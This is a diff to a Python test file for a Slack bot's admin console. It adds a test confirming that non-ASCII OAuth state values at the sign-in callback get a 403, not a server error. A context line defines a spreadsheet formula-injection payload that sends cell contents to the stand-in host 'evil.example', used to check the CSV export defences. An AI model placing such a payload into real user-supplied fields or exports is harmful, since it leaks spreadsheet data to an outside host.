@@ -19,7 +19,7 @@ from bot.domain import usd_string
 from bot.storage.names import CHANNEL, USER
 from bot.storage.tables import UsageEntry, utcnow
 from tests.fakes.slack import FakeSlack
-from tests.ops.console_harness import csrf, now_local, running_console, seed_ledger
+from tests.ops.console_harness import csrf, mounted_console, now_local, running_console, seed_ledger
 
 # Names people can give themselves and their channels, which a spreadsheet would run as formulas.
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open invoice")'
@@ -139,3 +139,18 @@ async def test_the_ledger_csv_is_sent_page_by_page_every_row_once_in_order(
         expected = await queries.ledger(LedgerFilter(), limit=1_000_000)
         assert len(expected) > 3 * 4 and text.count("started_at") == 1  # several pages, one header
         assert [int(row["id"]) for row in csv.DictReader(io.StringIO(text))] == [r.id for r in expected]
+
+
+async def test_a_sign_in_with_slack_state_outside_ascii_is_refused_not_a_server_error(
+        core_for, sqlite_url: str) -> None:
+    """The callback is open to anyone without a session: a state the cookie does not hold is the sign-in page's
+    403, whatever its characters (compare_digest raised TypeError on a non-ASCII str: a 500)."""
+    installs = {"SLACK_CLIENT_ID": "1111.2222", "SLACK_CLIENT_SECRET": "secret", "SLACK_SCOPES": "chat:write"}
+    core = await core_for(sqlite_url, SEEDBOT_ADMINS="slack:UADMIN", **installs)
+    async with mounted_console(core, "slack:UADMIN") as (_signed_in, base):
+        async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as client:
+            started = await client.get(base + "/admin/login/slack", allow_redirects=False)  # the state cookie
+            assert started.status == 302
+            for state in ("abc", "\u00e9", "\u00e9" * 500):
+                answer = await client.get(base + "/admin/login/slack/callback", params={"state": state, "code": "x"})
+                assert answer.status == 403 and _guarded(answer), (state[:5], answer.status)
